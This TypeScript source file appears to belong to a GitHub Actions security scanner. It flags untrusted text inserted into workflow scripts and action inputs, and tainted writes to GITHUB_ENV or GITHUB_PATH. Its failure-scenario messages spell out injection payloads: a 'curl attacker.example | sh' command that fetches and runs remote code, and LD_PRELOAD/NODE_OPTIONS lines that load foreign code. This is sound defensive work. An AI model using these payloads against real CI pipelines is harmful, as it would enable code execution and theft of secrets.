import type { ConfigurationHazard } from '../configuration/configuration-hazard.ts';
import type { YamlPlace } from '../configuration/yaml-place.ts';
import { type Inserted, insertedIn, parseExpression, resultsOf } from './expression.ts';
import { strangersStart, type Tainted, taintedIn } from './strangers.ts';
import type { Job, WorkflowStep, Workflow } from './workflow.ts';

/** Inputs of actions that are run as a program, by the action; from the second block on those that CodeQL lists, for a shell or as code or templates that are evaluated. */
const PROGRAMS: Readonly<Record<string, readonly string[]>> = {
  'actions/github-script': ['script'],
  'azure/powershell': ['inlineScript'],
  'azure/cli': ['inlineScript'],
  'appleboy/ssh-action': ['script'],
  'nick-fields/retry': ['command'],
  'nick-invision/retry': ['command'],
  'addnab/docker-run-action': ['run', 'options'],
  'cloudflare/wrangler-action': ['command', 'preCommands', 'postCommands'],
  'reactivecircus/android-emulator-runner': ['script'],
  'jannekem/run-python-script-action': ['script'],
  'devcontainers/ci': ['runCmd'],

  '8398a7/action-slack': ['custom_payload'],
  'devorbitus/yq-action-output': ['cmd'],
  'gautamkrishnar/blog-post-workflow': ['item_exec'],
  'lucasbento/auto-close-issues': ['issue-close-message'],
  'mikefarah/yq': ['cmd'],
  'roots/issue-closer-action': ['issue-close-message', 'pr-close-message'],
  'sergeysova/jq-action': ['cmd'],
  'skitionek/notify-microsoft-teams': ['overwrite'],
  'tibdex/backport': ['body_template', 'head_template', 'labels_template', 'title_template'],
};

/** Strangers' text that GitHub puts into a program before anything reads it as a value. */
export function injectedPrograms(workflow: Workflow): ConfigurationHazard[] {
  return workflow.jobs.flatMap((job) =>
    job.steps.flatMap((step) => {
      const tainted = taintedIn(workflow, job, step);
      const inserted = programsOf(step).flatMap((program) => insertions(program, { workflow, tainted }));
      return [...inserted, ...environmentHazards({ workflow, job, step, tainted })];
    }),
  );
}

/** The texts of a step that are run. */
function programsOf({ place, action, run }: WorkflowStep): YamlPlace[] {
  const inputs = PROGRAMS[action] ?? [];
  return [run, ...inputs.map((name) => place.at('with').at(name))].filter(({ text }) => text !== null);
}

function insertions(
  program: YamlPlace,
  { workflow, tainted }: { readonly workflow: Workflow; readonly tainted: Tainted },
): ConfigurationHazard[] {
  const told = new Set<string>();
  return insertedIn(program.words).flatMap((inserted) => {
    const expression = parseExpression(inserted.source);
    const results = expression === null ? [] : resultsOf(expression);
    const written = results.find((path) => tainted.isWritten(path) && !told.has(path));
    if (written !== undefined) {
      told.add(written);
      return [insertion(program, { inserted, written, workflow })];
    }
    const input = workflow.isAction
      ? results.find((path) => isTextInput(workflow, path) && !told.has(path))
      : undefined;
    if (input === undefined) return [];
    told.add(input);
    return [inputInsertion(program, inserted, input)];
  });
}

function insertion(
  program: YamlPlace,
  {
    inserted,
    written,
    workflow,
  }: { readonly inserted: Inserted; readonly written: string; readonly workflow: Workflow },
): ConfigurationHazard {
  const started = strangersStart(workflow);
  return {
    rule: 'workflow-injection',
    identity: `${written} in ${nearby(program.words, inserted)}`,
    lines: [lineOf(program, inserted.start), program.line],
    title: `\`${written}\` is put into a program as text`,
    explanation: `GitHub replaces the expression before the program starts, so that what somebody wrote there is read as code and not as a value. Hand it over in \`env\` and read the variable in quotes.`,
    failureScenario: {
      description: `Somebody chooses \`${written}\` so that it ends the text around it and goes on with \`$(curl attacker.example | sh)\`. The job runs it, with its token and secrets.`,
    },
    // From a fork, a pull request’s own run has no secrets and a token that only reads.
    severity: started === 'without-rights' ? 'warning' : 'critical',
  };
}

function inputInsertion(program: YamlPlace, inserted: Inserted, path: string): ConfigurationHazard {
  return {
    rule: 'workflow-injection',
    identity: `${path} in ${nearby(program.words, inserted)}`,
    lines: [lineOf(program, inserted.start), program.line],
    title: `The input \`${path.slice('inputs.'.length)}\` is put into a program as text`,
    explanation:
      'Whoever uses this action may hand it a title, a branch or a comment, which is read as code here. Hand it over in `env` and read the variable in quotes.',
    failureScenario: {
      description: `A workflow gives the title of a pull request to \`${path.slice('inputs.'.length)}\`; with \`"; curl attacker.example | sh; "\` in it, the action runs the stranger’s command.`,
    },
    severity: 'suggestion',
    confidence: 500,
  };
}

/** An input of the action that is no switch. */
function isTextInput({ place }: Workflow, path: string): boolean {
  const name = /^inputs\.([^.*]+)$/.exec(path)?.[1];
  if (name === undefined) return false;
  const inputs = place.at('inputs');
  const key = inputs.keys.find((one) => one.toLowerCase() === name);
  if (key === undefined) return false;
  return !/^(?:true|false|\d+)$/i.test(inputs.at(key).at('default').words.trim());
}

/** Strangers' texts that a program writes where later steps take environment variables and programs from. */
function environmentHazards({
  step,
  tainted,
}: {
  readonly workflow: Workflow;
  readonly job: Job;
  readonly step: WorkflowStep;
  readonly tainted: Tainted;
}): ConfigurationHazard[] {
  const variables = new Map(tainted.variables);
  const names = new Map([
    ['github.env', 'GITHUB_ENV'],
    ['github.path', 'GITHUB_PATH'],
  ]);
  return writtenTogether(step.run.words.split('\n')).flatMap(({ line, alone, index }): ConfigurationHazard[] => {
    handOn(alone, variables);
    const [, alias, meant] =
      /^\s*(?:export |local )?(\w{1,80})=["']?\$\{{0,2} ?(?:env:)?(GITHUB_(?:ENV|PATH)|github\.(?:env|path))\b/.exec(
        alone,
      ) ?? [];
    if (alias !== undefined && meant !== undefined)
      names.set(`$${alias}`, names.get(meant) ?? meant).set(`\${${alias}}`, names.get(meant) ?? meant);
    const file = /GITHUB_(?:ENV|PATH)\b/.exec(line)?.[0] ?? [...names].find(([name]) => line.includes(name))?.[1];
    if (file === undefined || !/>>|\btee\b|Out-File|Add-Content/.test(line)) return [];
    const held = [...variables].find(([name, extent]) => {
      const used = new RegExp(String.raw`\$(?:env:)?\{?${name}\b`, 'i').test(line);
      return used && (extent === 'lines' || file === 'GITHUB_PATH');
    });
    if (held === undefined) return [];
    return [
      {
        rule: 'workflow-injection',
        identity: `${file} from ${held[0]}`,
        lines: [step.run.lineInside(index), step.run.line],
        title: `What a stranger wrote goes into \`${file}\``,
        explanation: `Each line of that file becomes a setting of all later steps, and a text with line breaks adds settings of its own. Use \`GITHUB_OUTPUT\` with a delimiter that nobody can guess, or check the text first.`,
        failureScenario: {
          description: `The text has a second line \`LD_PRELOAD=…\` or \`NODE_OPTIONS=--require …\`: the next step of the job loads the stranger’s code.`,
        },
      },
    ];
  });
}

/** Lines, each with what goes to the same place: the document that it begins, or the group that it ends. */
function writtenTogether(
  lines: readonly string[],
): { readonly line: string; readonly alone: string; readonly index: number }[] {
  let opened: number | null = null;
  return lines.map((alone, index) => {
    if (/^\s*[{(]\s*$/.test(alone)) opened = index;
    const group = opened !== null && /^\s*[})]/.test(alone) ? lines.slice(opened, index) : [];
    const mark = /<<-?([A-Za-z_]\w{0,60})/.exec(alone)?.[1];
    const end = mark === undefined ? -1 : lines.findIndex((line, at) => at > index && line.trim() === mark);
    const body = end === -1 ? [] : lines.slice(index + 1, end);
    return { line: [...group, alone, ...body].join('\n'), alone, index };
  });
}

/** What makes several lines of one: a match a line, or a sign that becomes a line break. */
const SPLITS = /\bgrep\s(?:[^|]{0,80}\s)?-\w{0,5}o|\b(?:tr|fold|printf|fmt)\s|\becho\s+-\w{0,2}e|\bxargs\b/;

/** `message=$(echo "$TITLE" | grep -o …)`: the variable of the script holds what the other one does. */
function handOn(line: string, variables: Map<string, 'line' | 'lines'>): void {
  const [, name, value] = /^\s*(?:export |local )?([A-Za-z_]\w{0,80})=(.*)$/.exec(line) ?? [];
  if (name === undefined || value === undefined) return;
  const from = [...variables].find(([one]) => new RegExp(String.raw`\$\{?${one}\b`, 'i').test(value));
  if (from !== undefined) variables.set(name.toLowerCase(), SPLITS.test(value) ? 'lines' : from[1]);
}

/** The line of the program that an insertion stands in, without white space. */
function nearby(text: string, { start, end }: Inserted): string {
  const from = text.lastIndexOf('\n', start) + 1;
  const to = text.indexOf('\n', end);
  return text.slice(from, to === -1 ? undefined : to).replace(/\s+/g, '');
}

function lineOf(program: YamlPlace, offset: number): number {
  return program.lineInside(program.words.slice(0, offset).split('\n').length - 1);
}
